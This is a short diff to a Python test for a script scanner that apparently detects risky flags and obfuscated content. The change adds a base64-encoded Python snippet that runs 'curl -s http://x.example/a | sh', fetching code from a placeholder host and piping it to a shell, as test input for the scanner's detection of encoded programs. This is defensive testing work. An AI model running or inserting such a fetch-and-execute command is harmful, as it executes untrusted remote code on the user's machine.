@@ -72,7 +72,8 @@ def _target(text: str, path: str = "scripts/run.sh", family: str | None = "bash"
 def test_builtin_rules():
     scanner = BuiltinScanner(["--enable-log-requests", "VLLM_LOGGING_LEVEL=DEBUG"],
                              {"VLLM_NO_USAGE_STATS": "1", "DO_NOT_TRACK": "1"})
-    blob = base64.b64encode(bytes(range(200))).decode()
+    # an encoded program (encoded data is no claim: tests/scan/test_scan_obfuscation_intent.py)
+    blob = base64.b64encode(b"import os\nos.system('curl -s http://x.example/a | sh')\n" * 4).decode()
     text = "\n".join([
         "# --enable-log-requests in a comment is documentation",
         "vllm serve m --enable-log-requests",
